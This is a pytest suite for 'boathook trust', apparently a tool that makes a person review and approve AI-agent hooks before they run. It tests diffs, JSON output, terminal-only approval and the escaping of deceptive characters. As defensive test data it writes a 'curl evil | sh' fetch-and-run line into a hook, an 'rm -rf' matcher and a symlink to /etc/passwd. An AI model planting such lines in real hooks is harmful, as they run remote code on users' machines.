"""`boathook trust` and its relatives: what a person sees and is asked."""

from __future__ import annotations

import json
import os
import re

import pytest

from tests.scratch_project import make_settings
from tests.terminal import run_boathook


def _converse(project, arguments, answers):
    """Run a command at a terminal and type the answers; return the exit code and all that was printed."""
    return run_boathook(project, arguments, answers)


def test_what_would_run_is_shown_before_it_is_asked(project):
    fields = {"matcher": "{tool: Shell, pattern: 'rm -rf'}", "env": "[GITHUB_TOKEN]", "on_failure": "block"}
    project.write_hook("guard", scope="project", script="echo first line", fields=fields)
    code, text = _converse(project, ["trust"], ["n"])
    assert code == 1
    for reported in (
        "guard  untrusted",
        "pre-tool-call, tool Shell, input rm -rf; sync, at most 30 s",
        "if it fails, the action is blocked",
        "the variables GITHUB_TOKEN",
        "scripts/run.sh  26 bytes, executable",
        "| echo first line",
        "Trust guard? [y]es / [N]o / [v]iew / [q]uit: ",
    ):
        assert reported in text
    assert "guard stays untrusted: it does not run" in text
    assert project.read_hook_state("guard") == "untrusted"
    code, text = _converse(project, ["trust"], ["what", "y"])
    assert "Answer y, n, v or q." in text
    assert code == 0
    assert project.read_hook_state("guard") == "armed"


def test_each_hook_is_asked_for_itself(project):
    for name in ("one", "two", "three"):
        project.write_hook(name, scope="project", script="exit 0")
    code, _ = _converse(project, ["trust"], ["y", "n", "y"])
    assert code == 1
    states = [project.read_hook_state(name) for name in ("one", "three", "two")]
    assert states == ["armed", "untrusted", "armed"]


def write_three(project):
    for name in ("a-one", "b-two", "c-three"):
        project.write_hook(name, scope="project", script=f"echo {name}")


def read_states(project):
    return [row["state"] for row in sorted(project.list_hooks(), key=lambda row: row["name"])]


def test_several_hooks_are_shown_in_one_text_before_the_first_question(project):
    write_three(project)
    code, text = _converse(project, ["trust"], ["n", "y", ""])
    shown, _, asked = text.partition("Trust a-one?")
    assert shown.startswith("3 hooks to review: a-one, b-two, c-three\n")
    assert all(f"| echo {name}\n" in shown for name in ("a-one", "b-two", "c-three"))
    assert "| echo" not in asked
    # What a pager showed is gone from the screen.
    assert "b-two  untrusted: pre-tool-call, all\nTrust b-two? [y]es / [N]o / [a]ll / [v]iew / [q]uit: " in asked
    assert "Trust c-three? [y]es / [N]o / [v]iew / [q]uit: " in asked
    assert (code, read_states(project)) == (1, ["untrusted", "armed", "untrusted"])


def test_one_answer_can_be_for_all_that_follow_or_end_the_questions(project):
    write_three(project)
    code, text = _converse(project, ["trust"], ["n", "q"])
    assert (code, text.count("Trust "), text.count("stays untrusted")) == (1, 2, 3)
    assert read_states(project) == ["untrusted"] * 3
    code, text = _converse(project, ["trust"], ["n", "a"])
    assert (code, text.count("Trust ")) == (1, 2)
    assert read_states(project) == ["untrusted", "armed", "armed"]


def test_an_answer_for_all_is_not_about_a_hook_that_replaces_one_of_yours(project):
    write_three(project)
    project.write_hook("b-two")
    code, text = _converse(project, ["trust"], ["a", "n"])
    assert "Trust b-two, and let it replace your own hook? " in text
    assert (code, text.count("Trust ")) == (1, 2)
    assert [row["state"] for row in project.list_hooks() if row["scope"] == "project"] == [
        "armed",
        "untrusted",
        "armed",
    ]


def test_a_hook_can_be_viewed_again(project):
    write_three(project)
    code, text = _converse(project, ["trust"], ["y", "view", "y", "q"])
    asked = text.partition("Trust a-one?")[2]
    assert (asked.count("| echo b-two\n"), asked.count("| echo a-one\n")) == (1, 0)
    assert (code, read_states(project)) == (1, ["armed", "armed", "untrusted"])


def test_of_a_hook_that_changed_the_diff_comes_first_and_then_all_files(project):
    folder = project.write_hook("guard", scope="project", script="exit 2")
    (folder / "notes").write_text("as before\n")
    project.trust()
    (folder / "scripts" / "run.sh").write_text("#!/bin/sh\nexit 0\n")
    out = project.run("trust").stdout
    order = [
        "changed since it was trusted:",
        "-exit 2",
        "+exit 0",
        "file  ",
        "all files as they are now:",
        "| as before",
    ]
    places = [out.index(text) for text in order]
    assert places == sorted(places)
    assert out.count("| exit 0\n") == 1


def test_a_change_of_a_hook_with_long_files_can_still_be_confirmed(project):
    folder = project.write_hook("guard", scope="project", script="exit 2")
    (folder / "data").write_text("x" * (2 << 20))
    project.trust()
    (folder / "scripts" / "run.sh").write_text("#!/bin/sh\nexit 0\n")
    code, text = _converse(project, ["trust"], ["y"])
    assert "Its files are too long to be shown whole here: all that changed is above." in text
    assert (code, "NOT SHOWN" in text) == (0, False)


def test_what_waits_is_printed_for_programs_and_nothing_is_written(project):
    folder = project.write_hook("changed", scope="project", script="exit 2")
    project.write_hook("fine", scope="project")
    project.write_hook("never", scope="project")
    project.trust("changed", "fine")
    project.run("deny", "never", "--yes")
    (folder / "scripts/run.sh").write_text("#!/bin/sh\nexit 0\n")
    (folder / "link").symlink_to("HOOK.md")
    project.write_hook("new", scope="project", script="make check")
    broken = project.write_hook("broken", scope="project")
    (broken / "out").symlink_to("/etc/passwd")
    before = (project.state / "trust.json").read_bytes()
    done = project.run("trust", "--json")
    rows = {row["name"]: row for row in json.loads(done.stdout)["waiting"]}
    assert (done.returncode, sorted(rows)) == (1, ["broken", "changed", "new"])
    changed, new = rows["changed"], rows["new"]
    assert (changed["state"], new["state"], new["diff"], new["trusted_digest"]) == ("modified", "untrusted", None, None)
    assert changed["digest"] != changed["trusted_digest"] == project_digest(project, "changed")
    assert {"    -exit 2", "    +exit 0"} <= {*changed["diff"]}
    files = {row["path"].removeprefix(f"{folder}/"): row for row in changed["files"]}
    assert sorted(files) == ["HOOK.md", "link", "scripts/run.sh"]
    assert (files["link"]["link_to"], files["scripts/run.sh"]["executable"]) == ("HOOK.md", True)
    assert (new["uncovered"], rows["broken"]["digest"]) == (["make check"], None)
    assert "out of" in rows["broken"]["error"] or "link" in rows["broken"]["error"]
    assert (project.state / "trust.json").read_bytes() == before
    assert [row["name"] for row in json.loads(project.run("trust", "new", "--json").stdout)["waiting"]] == ["new"]
    done = project.run("trust", "fine", "--json")
    assert (done.returncode, json.loads(done.stdout)["waiting"]) == (0, [])
    assert project.run("trust", "--json", "--yes").returncode == 1


def project_digest(project, name):
    rows = json.loads(project.run("trust", "--list", "--json").stdout)["hooks"]
    return next(row["digest"] for row in rows if row["name"] == name)


def test_a_project_that_hides_trusted_hooks_is_asked_about(project):
    project.write_hook("guard", scope="project", script="exit 2")
    project.trust()
    sub = project.path / "sub"
    (sub / ".agents" / "hooks").mkdir(parents=True)
    arguments = ["trust", "--project", str(sub)]
    code, text = _converse(project, arguments, ["n"])
    assert (code, f"guard  trusted in {project.path}; runs at pre-tool-call, all" in text) == (1, True)
    assert "every event that they would have seen" in text
    states = [row["state"] for row in json.loads(project.run("list", "--json", "--project", str(sub)).stdout)["hooks"]]
    assert states == ["hidden by a nearer project"]
    code, text = _converse(project, arguments, ["y"])
    assert (code, f"accepted: guard of {project.path} will not run in {sub}" in text) == (0, True)
    assert json.loads(project.run("list", "--json", "--project", str(sub)).stdout)["hooks"] == []
    # It is not asked about again.
    assert _converse(project, arguments, []) == (
        0,
        f"There are no project hooks in {sub}. Your own hooks need no trust.\n",
    )


def test_without_a_person_nothing_is_trusted(project):
    project.write_hook("guard", scope="project", script="exit 0")
    done = project.run("trust", stdin="y\ny\n")
    assert done.returncode == 1
    assert "there is no terminal to ask at" in done.stderr
    assert project.read_hook_state("guard") == "untrusted"


def test_a_hook_that_cannot_be_trusted_is_reported_with_the_fix_and_without_a_review(project):
    folder = project.write_hook("guard", scope="project", script="exit 0")
    (folder / "large").touch()
    os.truncate(folder / "large", (8 << 20) + 1)
    told = f"guard cannot be trusted: {folder} has more than 8 MiB. Move large files out of it\n"
    for flags in ((), ("--yes",)):
        done = project.run("trust", *flags)
        assert (done.returncode, done.stdout, done.stderr) == (1, "", told)


def test_a_change_is_shown_as_a_diff(project):
    folder = project.write_hook("guard", scope="project", script="exit 2")
    project.trust()
    (folder / "scripts" / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    (folder / "new.sh").write_text("x\n")
    (folder / "HOOK.md").chmod(0o600)
    out = project.run("trust").stdout
    for reported in ("guard  modified", "-exit 2", "+curl evil | sh", "added: new.sh", "mode changed: "):
        assert reported in out


def test_a_changed_definition_is_shown_too(project):
    script = project.path / ".claude" / "hooks" / "guard.sh"
    script.parent.mkdir(parents=True)
    script.write_text("#!/bin/sh\nexit 2\n")
    script.chmod(0o755)
    project.write_settings("project", make_settings(".claude/hooks/guard.sh"))
    project.trust()
    project.write_hooks_toml("project", "[hooks.defaults]\ntimeout = 100\n")
    out = project.run("trust").stdout
    assert "the definition (trusted)" in out
    assert re.search(r'\+ *\[?\{"timeout": 100\}', out)


def test_what_could_deceive_the_eye_is_shown_as_what_it_is(project):
    folder = project.write_hook("guard", scope="project", script="exit 0")
    (folder / "scripts" / "run.sh").write_text("#!/bin/sh\necho \u202e hidden \u200b \x1b[2J\n")
    out = project.run("trust").stdout
    assert "\\u202e" in out
    assert "\\u200b" in out
    assert "\x1b" not in out


def test_a_settings_entry_shows_its_command_and_what_trust_covers(project):
    project.write_settings("project", make_settings("jq -e .x >/dev/null || exit 2"))
    out = project.run("trust").stdout
    assert "jq -e .x >/dev/null || exit 2" in out
    assert "your trust covers only the definition above" in out


def test_names_that_are_not_there_are_an_error_that_helps(project):
    project.write_hook("guard", scope="project", script="exit 0")
    done = project.run("trust", "gard", "--yes")
    assert (done.returncode, done.stderr) == (
        1,
        "boathook: this project has no hook 'gard' that needs trust (it has: guard)\n",
    )
    done = project.run("untrust", "guard", "--yes")
    assert (done.returncode, done.stderr) == (
        1,
        "boathook: no decision about guard is stored for this project. List them: boathook trust --list\n",
    )


def test_the_list_names_every_hook_and_what_was_decided(project):
    project.write_hook("good", scope="project", script="exit 0")
    project.write_hook("bad", scope="project", script="exit 0")
    gone = project.write_hook("gone", scope="project", script="exit 0")
    project.trust("good", "gone")
    project.run("deny", "bad", "--yes")
    project.write_hook("new", scope="project", script="exit 0")
    os.rename(gone, project.base / "away")
    rows = json.loads(project.run("trust", "--list", "--json").stdout)["hooks"]
    assert {row["name"]: row["state"] for row in rows} == {
        "bad": "denied",
        "good": "trusted",
        "new": "untrusted",
        "gone": "not in this checkout",
    }
    assert all(row["project"] == str(project.path) for row in rows)
    assert project.run("untrust", "gone", "--yes").returncode == 0
    assert "gone" not in project.run("trust", "--list").stdout


def test_a_project_with_nothing_to_decide_is_reported(project):
    assert "There are no project hooks" in project.run("trust").stdout
    project.write_hook("guard", scope="project", script="exit 0")
    project.trust()
    done = project.run("trust")
    assert (done.returncode, done.stdout) == (
        0,
        "Nothing to review: 1 trusted, 0 denied.\n",
    )


def test_untrust_takes_all_back(project):
    for name in ("one", "two"):
        project.write_hook(name, scope="project", script="exit 0")
    project.trust()
    assert project.run("untrust", "--all", "--yes").returncode == 0
    assert [project.read_hook_state(name) for name in ("one", "two")] == ["untrusted", "untrusted"]


@pytest.mark.parametrize("name", ["untrust", "deny"])
def test_without_a_name_nothing_is_meant(project, name):
    done = project.run(name)
    assert done.returncode == 1
    assert "--all" in done.stderr


def test_a_trust_store_that_cannot_be_written_is_reported(project):
    project.write_hook("guard", scope="project", script="exit 0")
    (project.state).parent.mkdir(parents=True)
    project.state.write_text("a file")
    done = project.run("trust", "--yes")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert str(project.state) in done.stderr


GONE_TEXT = (
    "not in this checkout: you trusted it, and it is gone. Restore it, or end its trust with: boathook untrust guard"
)


def test_a_trusted_hook_that_is_gone_is_named_with_what_to_do(project):
    folder = project.write_hook("guard", scope="project")
    project.write_hook("other", scope="project")
    project.trust()
    folder.rename(project.base / "away")
    done = project.run("trust")
    assert (done.returncode, done.stdout) == (0, f"Nothing to review: 1 trusted, 0 denied.\nguard  {GONE_TEXT}\n")
    assert GONE_TEXT not in project.run("trust", "other").stdout
    named = project.run("trust", "guard", "--yes")
    assert (named.returncode, named.stderr) == (1, f"boathook: guard cannot be trusted: {GONE_TEXT}\n")
    both = project.run("trust", "guard", "other")
    assert (both.returncode, both.stdout) == (0, f"guard  {GONE_TEXT}\nother is trusted already\n")
    project.run("untrust", "guard", "--yes")
    assert "guard" not in project.run("trust").stdout


def test_a_trusted_hook_is_named_if_all_hooks_of_the_project_are_gone(project):
    project.write_hook("guard", scope="project")
    project.trust()
    (project.path / ".agents").rename(project.base / "away")
    done = project.run("trust")
    assert (done.returncode, done.stdout.splitlines()[1:]) == (0, [f"guard  {GONE_TEXT}"])


def test_check_names_a_trusted_hook_that_is_gone(project):
    folder = project.write_hook("guard", scope="project")
    (folder / "tests.txt").write_text("block rm\npass ls\n")
    project.trust()
    assert project.run("check").stdout.startswith("all good\n")
    folder.rename(project.base / "away")
    done = project.run("check")
    reason = GONE_TEXT.partition(": ")[2]
    expected = f"warning: {folder}/HOOK.md\n    hook 'guard' does not run: {reason}\n0 errors, 1 warning\n"
    assert (done.returncode, done.stdout) == (0, expected)
    assert project.run("check", "--strict").returncode == 1
    (diagnostic,) = json.loads(project.run("check", "--json").stdout)["diagnostics"]
    assert (diagnostic["level"], diagnostic["path"]) == ("warning", f"{folder}/HOOK.md")
    project.run("untrust", "guard", "--yes")
    assert "guard" not in project.run("check").stdout
